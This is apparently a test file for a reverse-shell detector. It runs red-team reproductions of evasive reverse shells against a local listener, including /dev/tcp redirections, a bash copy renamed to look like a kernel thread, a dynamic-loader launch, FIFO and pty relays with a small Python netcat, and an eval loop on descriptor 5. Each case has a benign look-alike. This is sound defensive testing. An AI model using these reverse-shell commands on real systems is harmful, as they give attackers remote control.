/**
 * Reverse shells dressed to slip past the reverse-shell checks, run for real against a listener on 127.0.0.1
 * this test holds (the red team's reproductions): a shell started through the dynamic loader or copied under
 * another name, an interpreter's REPL, a pty relay into another mount namespace, `sh /dev/stdin`, a read-eval
 * loop, a `cat f |` hop before the shell, and a connection on descriptor 5. Each has a look-alike that must
 * stay quiet. Every process is killed at the end.
 */
import assert from "node:assert/strict";
import { descendantsOf, killPid } from "../helpers.ts";
import { LOADER, needs } from "../host_caps.ts";
import {
  interpreterReadsStdin,
  loaderOperand,
  readsCommandsFromStdin,
} from "../../src/scanners/ioc/shell_program.ts";
import {
  argvOf,
  connected,
  holdsSocket,
  kill,
  listener,
  shellFindings,
  spawn,
  waitFor,
} from "./ioc_live_procs.ts";

/** The red team's nc.py: a TCP client copying its stdin to the connection and the connection to its stdout. */
const NC_PY = `import socket, sys, os, select
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
while True:
    r, _, _ = select.select([0, s], [], [])
    if 0 in r:
        d = os.read(0, 4096)
        if not d: break
        s.sendall(d)
    if s in r:
        d = s.recv(4096)
        if not d: break
        os.write(1, d)
`;

/**
 * The red team's relay.py: connects to 127.0.0.1:PORT (none when PORT is "-"), opens a pty and runs the rest of
 * its argv on the slave in a session of its own, copying between the master and the connection.
 */
const RELAY_PY = `import os, socket, sys, select, time
s = socket.create_connection(('127.0.0.1', int(sys.argv[1]))) if sys.argv[1] != '-' else None
m, sl = os.openpty()
if os.fork() == 0:
    os.setsid(); os.close(m)
    for f in (0, 1, 2): os.dup2(sl, f)
    os.close(sl)
    os.execv(sys.argv[2], sys.argv[2:])
os.close(sl)
while True:
    if s is None:
        time.sleep(60); continue
    r, _, _ = select.select([m, s], [], [])
    if m in r:
        d = os.read(m, 4096)
        if not d: break
        s.sendall(d)
    if s in r:
        d = s.recv(4096)
        if not d: break
        os.write(m, d)
`;

/** Holds a connection and runs `sh -c 'sleep 60'` with it open (as a daemon leaking a descriptor would). */
const LEAK_PY = `import socket, subprocess, sys
s = socket.create_connection(('127.0.0.1', int(sys.argv[1])))
subprocess.run(['/bin/sh', '-c', 'sleep 60'], pass_fds=(s.fileno(),))
`;

/** A scratch directory with the scripts and a FIFO `f`, and the processes started in it, all removed after. */
async function scenario(
  fn: (env: { dir: string; port: number; start: (script: string) => number }) => Promise<void>,
) {
  const l = listener();
  const dir = Deno.makeTempDirSync({ prefix: "ioc-evasion-" });
  Deno.writeTextFileSync(`${dir}/nc.py`, NC_PY);
  Deno.writeTextFileSync(`${dir}/relay.py`, RELAY_PY);
  Deno.writeTextFileSync(`${dir}/leak.py`, LEAK_PY);
  new Deno.Command("/usr/bin/mkfifo", { args: [`${dir}/f`, `${dir}/g`] }).outputSync();
  const started: Deno.ChildProcess[] = [];
  // In a session of its own: an interactive shell turns job control on and would take over the controlling
  // terminal of the test run if it could open one.
  const start = (script: string) => {
    const c = spawn("/usr/bin/setsid", ["/bin/bash", "-c", script]);
    started.push(c);
    return c.pid;
  };
  try {
    await fn({ dir, port: l.port, start });
  } finally {
    for (const c of started) for (const pid of descendantsOf(c.pid)) killPid(pid);
    await kill(...started);
    l.close();
    Deno.removeSync(dir, { recursive: true });
  }
}

/** The descendant of `root` (or `root` itself) running exactly `argv`. */
function running(root: number, argv: string): Promise<number> {
  return waitFor(argv, () => [root, ...descendantsOf(root)].find((pid) => argvOf(pid).join(" ") === argv));
}

const summary = async (pid: number) =>
  (await shellFindings(pid)).map((f) =>
    `${f.check_id} ${f.severity} ${f.metadata.kind ?? f.metadata.channel}`
  );

Deno.test(needs(["python3", "inetSockets", "loader"], {
  name:
    "a shell run through the dynamic loader is a reverse shell; the loader running cat on a socket is not",
  async fn() {
    await scenario(async ({ port, start }) => {
      // glibc's rtld, run as a program, loads its first operand and runs it: the exe is ld.so, the program bash.
      const shell = start(`exec ${LOADER} /bin/bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`);
      const cat = start(`exec ${LOADER} /bin/cat >& /dev/tcp/127.0.0.1/${port} 0>&1`);
      await connected("the loader's bash", await running(shell, `${LOADER} /bin/bash -i`));
      await connected("the loader's cat", await running(cat, `${LOADER} /bin/cat`));
      assert.deepEqual(await summary(shell), ["ioc.process.reverse_shell critical shell"]);
      assert.deepEqual(await summary(cat), []);
    });
  },
}));

Deno.test(needs(["inetSockets"], {
  name: "a copy of bash under another name is a shell by its content; a copy of cat is not",
  async fn() {
    await scenario(async ({ dir, port, start }) => {
      Deno.copyFileSync("/bin/bash", `${dir}/kworker`);
      Deno.copyFileSync("/bin/cat", `${dir}/kcat`);
      const shell = start(`exec ${dir}/kworker -i >& /dev/tcp/127.0.0.1/${port} 0>&1`);
      const cat = start(`exec ${dir}/kcat >& /dev/tcp/127.0.0.1/${port} 0>&1`);
      await connected("the copied bash", await running(shell, `${dir}/kworker -i`));
      await connected("the copied cat", await running(cat, `${dir}/kcat`));
      assert.deepEqual(await summary(shell), ["ioc.process.reverse_shell critical shell"]);
      assert.deepEqual(await summary(cat), []);
    });
  },
}));

Deno.test(needs(["python3", "inetSockets"], {
  name: "python3 -i and python3 - on a socket read their program from it; python3 script.py does not",
  async fn() {
    await scenario(async ({ dir, port, start }) => {
      Deno.writeTextFileSync(`${dir}/serve.py`, "import time\ntime.sleep(60)\n");
      const repl = start(`exec /usr/bin/python3 -i >& /dev/tcp/127.0.0.1/${port} 0>&1`);
      const dash = start(`exec /usr/bin/python3 - >& /dev/tcp/127.0.0.1/${port} 0>&1`);
      const script = start(`exec /usr/bin/python3 ${dir}/serve.py >& /dev/tcp/127.0.0.1/${port} 0>&1`);
      for (const pid of [repl, dash, script]) await connected("python", pid);
      await running(script, `/usr/bin/python3 ${dir}/serve.py`);
      assert.deepEqual(await summary(repl), ["ioc.process.reverse_shell critical interpreter"]);
      assert.deepEqual(await summary(dash), ["ioc.process.reverse_shell critical interpreter"]);
      assert.deepEqual(await summary(script), []);
    });
  },
}));

Deno.test(needs(["root", "python3", "unshare", "inetSockets"], {
  name: "a shell on a relayed pty in another mount namespace is paired with the pty's master by its devpts",
  async fn() {
    await scenario(async ({ dir, port, start }) => {
      // The pty is opened in this namespace; `unshare -m` gives the shell a copy of the mount table, the same
      // devpts instance under another mount namespace id.
      const relay = start(`exec /usr/bin/python3 ${dir}/relay.py ${port} /usr/bin/unshare -Urm /bin/sh -i`);
      const idle = start(`exec /usr/bin/python3 ${dir}/relay.py - /usr/bin/unshare -Urm /bin/sh -i`);
      await connected("the relay", relay);
      const shell = await running(relay, "/bin/sh -i");
      const quiet = await running(idle, "/bin/sh -i");
      assert.notEqual(Deno.readLinkSync(`/proc/${shell}/ns/mnt`), Deno.readLinkSync(`/proc/${relay}/ns/mnt`));
      const fs = await shellFindings(shell);
      assert.deepEqual(fs.map((f) => [f.check_id, f.metadata.pairing, f.metadata.relay_pid]), [
        ["ioc.process.reverse_shell_relay", "tty-index", relay],
      ]);
      // The same pty relay without a connection is a terminal, not a reverse shell.
      assert.deepEqual(await summary(quiet), []);
    });
  },
}));

Deno.test(needs(["python3", "inetSockets"], {
  name:
    "sh /dev/stdin reads its commands from stdin: on a FIFO relay and on a pty relay it is a reverse shell",
  async fn() {
    await scenario(async ({ dir, port, start }) => {
      Deno.writeTextFileSync(`${dir}/job.sh`, "sleep 60\n");
      const fifo = start(
        `/bin/sh /dev/stdin < ${dir}/f 2>&1 | /usr/bin/python3 ${dir}/nc.py 127.0.0.1 ${port} > ${dir}/f`,
      );
      const pty = start(`exec /usr/bin/python3 ${dir}/relay.py ${port} /bin/bash /dev/stdin`);
      // A script operand: the shell runs job.sh, whatever its stdin is.
      const job = start(
        `/bin/sh ${dir}/job.sh < ${dir}/g 2>&1 | /usr/bin/python3 ${dir}/nc.py 127.0.0.1 ${port} > ${dir}/g`,
      );
      const fifoShell = await running(fifo, "/bin/sh /dev/stdin");
      const ptyShell = await running(pty, "/bin/bash /dev/stdin");
      const jobShell = await running(job, `/bin/sh ${dir}/job.sh`);
      for (const root of [fifo, pty, job]) {
        await connected("nc", await waitFor("nc", () => [root, ...descendantsOf(root)].find(holdsSocket)));
      }
      assert.deepEqual(await summary(fifoShell), ["ioc.process.reverse_shell_relay critical pipe"]);
      assert.deepEqual(await summary(ptyShell), ["ioc.process.reverse_shell_relay critical pty"]);
      assert.deepEqual(await summary(jobShell), []);
    });
  },
}));

Deno.test(needs(["python3", "inetSockets"], {
  name:
    "sh -c 'while read l; do eval \"$l\"; done' on a FIFO relay is a reverse shell; a loop that echoes is not",
  async fn() {
    await scenario(async ({ dir, port, start }) => {
      const evalLoop = `while read l; do eval "$l"; done`;
      const echoLoop = `while read l; do echo "$l"; done`;
      const bad = start(
        `/bin/sh -c '${evalLoop}' < ${dir}/f 2>&1 | /usr/bin/python3 ${dir}/nc.py 127.0.0.1 ${port} > ${dir}/f`,
      );
      const ok = start(
        `/bin/sh -c '${echoLoop}' < ${dir}/g 2>&1 | /usr/bin/python3 ${dir}/nc.py 127.0.0.1 ${port} > ${dir}/g`,
      );
      const badShell = await running(bad, `/bin/sh -c ${evalLoop}`);
      const okShell = await running(ok, `/bin/sh -c ${echoLoop}`);
      for (const root of [bad, ok]) {
        await connected("nc", await waitFor("nc", () => [root, ...descendantsOf(root)].find(holdsSocket)));
      }
      assert.deepEqual(await summary(badShell), ["ioc.process.reverse_shell_relay critical pipe"]);
      assert.deepEqual(await summary(okShell), []);
    });
  },
}));

Deno.test(needs(["python3", "inetSockets"], {
  name: "cat f | sh -i 2>&1 | nc … > f: the shell is found through cat; with nothing networked it is quiet",
  async fn() {
    await scenario(async ({ dir, port, start }) => {
      // The cheat-sheet line: sh's stdin is a pipe from cat, which reads the FIFO nc writes.
      const bad = start(
        `/bin/cat ${dir}/f | /bin/sh -i 2>&1 | /usr/bin/python3 ${dir}/nc.py 127.0.0.1 ${port} > ${dir}/f`,
      );
      const ok = start(`/bin/cat ${dir}/g | /bin/sh -i 2>&1 | /bin/cat > ${dir}/g`);
      const shells = () => [...descendantsOf(bad)].filter((pid) => argvOf(pid).join(" ") === "/bin/sh -i");
      const badShell = await waitFor("the shell", () => shells()[0]);
      const okShell = await waitFor(
        "the quiet shell",
        () => [...descendantsOf(ok)].find((pid) => argvOf(pid).join(" ") === "/bin/sh -i"),
      );
      const nc = await waitFor("nc", () => [...descendantsOf(bad)].find(holdsSocket));
      const fs = await shellFindings(badShell);
      assert.deepEqual(fs.map((f) => [f.check_id, f.metadata.pairing, f.metadata.relay_pid]), [
        ["ioc.process.reverse_shell_relay", "pipe", nc],
      ]);
      assert.deepEqual(await summary(okShell), []);
    });
  },
}));

Deno.test(needs(["python3", "inetSockets"], {
  name:
    "a shell holding its connection on descriptor 5 is a reverse shell; one whose parent lent it the socket is not",
  async fn() {
    await scenario(async ({ dir, port, start }) => {
      const loop = `exec 5<>/dev/tcp/127.0.0.1/${port}; while read -r l <&5; do eval "$l" >&5 2>&5; done`;
      const bad = start(loop);
      // A daemon that runs a shell without closing its own connection first (no close-on-exec): the parent holds
      // the same socket.
      const leak = start(`exec /usr/bin/python3 ${dir}/leak.py ${port}`);
      await connected("the fd-5 shell", bad);
      const lent = await running(leak, "/bin/sh -c sleep 60");
      await connected("the lent socket", lent);
      assert.deepEqual(await summary(bad), ["ioc.process.reverse_shell critical shell"]);
      const [f] = await shellFindings(bad);
      assert.equal(f.metadata.on, "descriptor");
      assert.match(f.description, /holding, on a descriptor of its own, a connected tcp socket/);
      assert.deepEqual(await summary(lent), []);
    });
  },
}));

Deno.test("the loader's operand is its first word that is not one of its options (glibc rtld's and musl's)", () => {
  const cases: [string[], number | undefined][] = [
    [["/lib64/ld-linux-x86-64.so.2", "/bin/bash", "-i"], 1],
    [["ld.so", "--library-path", "/tmp", "--argv0", "x", "/bin/sh"], 5],
    [["ld.so", "--inhibit-cache", "/bin/sh"], 2],
    [["ld-musl-x86_64.so.1", "--", "/bin/sh"], 2],
    [["ld.so", "--list", "/bin/sh"], undefined],
    [["ld.so"], undefined],
  ];
  for (const [argv, want] of cases) assert.equal(loaderOperand(argv), want, argv.join(" "));
});

Deno.test("a -c command reads commands from stdin only when it is a loop that runs each line it reads", () => {
  const yes = [
    `while read l; do eval "$l"; done`,
    `while read -r c; do $c; done`,
    `while IFS= read -r line; do eval "$line" 2>&1; done`,
    `while read x; do sh -c "$x"; done`,
  ];
  const no = [
    `while read l; do echo "$l"; done`,
    `while read -r l <&5; do eval "$l"; done`,
    `while read l; do eval "$l"; done < /etc/cmds`,
    `eval "$(cat cfg)"; read answer`,
  ];
  for (const s of yes) assert.equal(readsCommandsFromStdin(["sh", "-c", s]), true, s);
  for (const s of no) assert.equal(readsCommandsFromStdin(["sh", "-c", s]), false, s);
  assert.equal(readsCommandsFromStdin(["sh", "/dev/stdin"]), true);
  assert.equal(readsCommandsFromStdin(["bash", "/proc/self/fd/0"]), true);
  assert.equal(readsCommandsFromStdin(["bash", "/proc/42/fd/0"], 42), true);
  assert.equal(readsCommandsFromStdin(["bash", "/proc/43/fd/0"], 42), false);
  assert.equal(readsCommandsFromStdin(["sh", "/etc/init.d/rc"]), false);
});

Deno.test("an interpreter reads its program from stdin with no script, `-` or /dev/stdin; not with a script or -m", () => {
  const yes = [
    ["python3"],
    ["python3", "-i"],
    ["python3", "-u", "-"],
    ["python3", "-W", "ignore"],
    ["perl"],
    [
      "node",
      "/dev/stdin",
    ],
  ];
  const no = [["python3", "app.py"], ["python3", "-m", "http.server"], ["python3", "-I", "app.py"], [
    "ruby",
    "-I",
    "lib",
    "app.rb",
  ], ["php", "-f", "x.php"]];
  for (const a of yes) assert.equal(interpreterReadsStdin(a), true, a.join(" "));
  for (const a of no) assert.equal(interpreterReadsStdin(a), false, a.join(" "));
});
